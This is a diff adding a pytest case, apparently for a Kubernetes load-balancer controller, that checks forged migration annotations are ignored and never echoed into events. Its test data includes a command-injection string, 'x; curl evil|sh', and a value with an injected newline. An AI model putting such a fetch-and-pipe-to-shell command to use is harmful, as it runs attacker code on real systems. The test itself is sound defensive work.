@@ -357,6 +357,28 @@ def test_a_note_is_believed_by_the_cluster_that_wrote_it_only(names: dict[str, A
     assert any("--former-cluster-name=demo" in text for text in texts) is not believed
 
 
+CURL = "x; curl evil|sh"
+STRANGE: dict[str, tuple[str, str, bool]] = {
+    "of a load balancer of somebody's choice": ("any-name-i-like", "prod", True),
+    "of another Service's": (THEIRS, "prod", True),
+    "made up on a Service that nobody has served": (EARLIER, "prod", False),
+    "a command for a name": (CURL, "prod", True),
+    "a command for a cluster": (load_balancer_name(CURL, "shop", "web", UID), CURL, True),
+    "a command for a cluster, with a name of ours": (LB_NAME, CURL, True),
+    "a line of its own": (EARLIER, "prod\nrun this", True),
+}
+
+
+@pytest.mark.parametrize(("name", "cluster", "ours"), STRANGE.values(), ids=STRANGE.keys())
+def test_a_note_of_somebody_else_stops_nothing_and_is_pasted_nowhere(name: str, cluster: str, ours: bool) -> None:
+    note = msgspec.json.encode(Former(name, "", "pool", "", cluster)).decode()
+    asked = service(annotations={MOVING: note, KUBE_VIP_ADDRESSES: ADDRESS}, ours=ours, address=ADDRESS)
+    found = plan(asked, waited=60.0)
+    assert [one.name for one in found.steps if isinstance(one, CreateLoadBalancer)] == [LB_NAME]
+    texts = [step.event.message for step in found.steps if isinstance(step, EmitEvent)]
+    assert not any("curl" in text or "prod" in text for text in texts)
+
+
 def test_a_copy_whose_status_was_cleared_is_served_whatever_the_note_says() -> None:
     asked, drill = service(annotations={**MOVE, **TO_VM}, ours=True), replace(CLUSTER, name="drill")
     steps = plan_service(situation_of(asked, cluster=drill, waited=9.0, backends=("vm-1",))).steps
